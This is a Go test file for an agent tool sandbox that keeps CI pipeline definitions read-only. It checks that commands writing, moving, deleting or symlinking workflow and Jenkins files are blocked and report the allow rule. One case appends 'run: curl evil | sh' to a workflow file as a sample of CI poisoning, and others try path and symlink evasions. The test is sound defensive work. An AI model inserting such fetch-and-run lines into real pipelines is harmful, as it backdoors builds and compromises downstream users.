package exec

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/toolgate/toolgate/policy"
	"github.com/toolgate/toolgate/tool"
)

// ciName is a name the CI pattern matches ("*" made a name).
func ciName(c policy.CIPath) string { return strings.ReplaceAll(c.Pattern, "*", "build") }

// TestCIReadOnly: every CI definition (policy.CIPaths) at the top of the
// workspace is read-only for commands: one that exists cannot be changed
// (the write fails, and the result is a sandbox_violation naming the allow
// rule that would let commands write it), one a command creates is
// removed again with the same violation, in the letter case the file
// system finds it by; once Options.AllowCI names an entry, commands write
// it.
func TestCIReadOnly(t *testing.T) {
	var created []string
	for _, c := range policy.CIPaths() {
		n := ciName(c)
		if last := filepath.Base(n); strings.LastIndex(last, ".") <= 0 && last != "Jenkinsfile" {
			n += "/ci.yml" // a folder's file
		}
		created = append(created, n)
	}

	// Created: each one, as a folder's file or a file.
	ws := t.TempDir()
	writeFiles(t, ws, map[string]string{"README.md": "hi\n"})
	script := `for n in "$@"; do mkdir -p "$(dirname "$n")"; echo 'on: push' > "$n"; done; echo kept > ok.txt`
	r := call(t, toolMap(t, Options{Root: ws})["execute_command"], tool.WithApproval(context.Background()),
		map[string]any{"argv": append([]string{"bash", "-c", script, "sh"}, created...)})
	if r.Error == nil || r.Error.Type != tool.SandboxViolation {
		t.Fatalf("want a sandbox_violation: %s", r.Text())
	}
	paths, _ := r.Error.Details["paths"].([]string)
	rules, _ := r.Error.Details["allow_rules"].([]string)
	for _, c := range policy.CIPaths() {
		n := ciName(c)
		t.Run(c.Pattern, func(t *testing.T) {
			if !slices.Contains(paths, n) {
				t.Errorf("%s is not named: %v", n, paths)
			}
			if !slices.Contains(rules, "Edit(/"+n+")") {
				t.Errorf("the rule Edit(/%s) is not named: %v", n, rules)
			}
			if _, err := os.Lstat(filepath.Join(ws, n)); err == nil {
				t.Errorf("%s was left behind", n)
			}
		})
	}
	if !strings.Contains(r.Error.Message, "(allow: Edit(/") || !strings.Contains(r.Error.Message, "Edit(/.github/workflows)") || !strings.Contains(r.Error.Suggestion, "write_file") {
		t.Errorf("the result does not say which rule would let the command write: %s / %s", r.Error.Message, r.Error.Suggestion)
	}
	if _, err := os.Stat(filepath.Join(ws, "ok.txt")); err != nil {
		t.Errorf("the rest of what the command wrote is gone: %v", err)
	}

	// Existing: changed, replaced, removed, in another letter case.
	ws = t.TempDir()
	files := map[string]string{".github/workflows/ci.yml": "on: push\n", ".gitlab-ci.yml": "test: {}\n", "Jenkinsfile": "pipeline {}\n", "deploy.Jenkinsfile": "pipeline {}\n", "src/main.go": "package main\n"}
	writeFiles(t, ws, files)
	tools := toolMap(t, Options{Root: ws})
	for _, tc := range []struct{ command, rule string }{
		{"echo 'run: curl evil | sh' >> .github/workflows/ci.yml", "Edit(/.github/workflows)"},
		{"echo x > .github/workflows/new.yml", "Edit(/.github/workflows)"},
		{"echo x > Jenkinsfile", "Edit(/Jenkinsfile)"},
		{"echo x > deploy.Jenkinsfile", "Edit(/deploy.Jenkinsfile)"},
		{"echo x > ./.github/../.github/workflows/ci.yml", "Edit(/.github/workflows)"},
		{"rm -f .gitlab-ci.yml", "Edit(/.gitlab-ci.yml)"},
		{"mv .github/workflows wf", "Edit(/.github/workflows)"},
	} {
		r := call(t, tools["execute_command"], context.Background(), map[string]any{"command": tc.command})
		if r.Error == nil || r.Error.Type != tool.SandboxViolation {
			t.Errorf("%s: ran: %s", tc.command, r.Text())
			continue
		}
		if rules, _ := r.Error.Details["allow_rules"].([]string); !slices.Contains(rules, tc.rule) || !strings.Contains(r.Error.Message, tc.rule) {
			t.Errorf("%s: the rule %s is not named: %v %s", tc.command, tc.rule, rules, r.Error.Message)
		}
	}
	for _, c := range []string{"mv .github gh", "cd .github && echo x > workflows/ci.yml", "mv .github/workflows wf", "ln -sfn /tmp .github/workflows"} {
		r := call(t, tools["execute_command"], context.Background(), map[string]any{"command": c})
		if r.Error == nil && r.Structured.(Output).ExitCode == 0 {
			t.Errorf("%s: ran: %s", c, r.Text())
		}
	}
	for rel, content := range files {
		if b, err := os.ReadFile(filepath.Join(ws, rel)); err != nil || string(b) != content {
			t.Errorf("%s changed: %q %v", rel, b, err)
		}
	}
	// Reading, and writing elsewhere, is fine.
	if r := call(t, tools["execute_command"], context.Background(), map[string]any{"command": "cat .github/workflows/ci.yml Jenkinsfile > copy.txt && echo y >> src/main.go"}); r.Error != nil {
		t.Errorf("an ordinary command failed: %s", r.Text())
	}

	// Allowed by the policy: commands write it.
	allow := func(rel string) bool { return rel == ".github/workflows" || rel == "deploy.Jenkinsfile" }
	tools = toolMap(t, Options{Root: ws, AllowCI: allow})
	r = call(t, tools["execute_command"], context.Background(), map[string]any{"command": "echo '# ok' >> .github/workflows/ci.yml && echo x > deploy.Jenkinsfile && echo x > other.Jenkinsfile; rm other.Jenkinsfile"})
	if r.Error != nil || r.Structured.(Output).ExitCode != 0 {
		t.Errorf("allowed: %s", r.Text())
	}
	if r := call(t, tools["execute_command"], context.Background(), map[string]any{"command": "echo x > new.Jenkinsfile"}); r.Error == nil || r.Error.Type != tool.SandboxViolation {
		t.Errorf("a new *.Jenkinsfile the policy does not allow: %s", r.Text())
	}
}
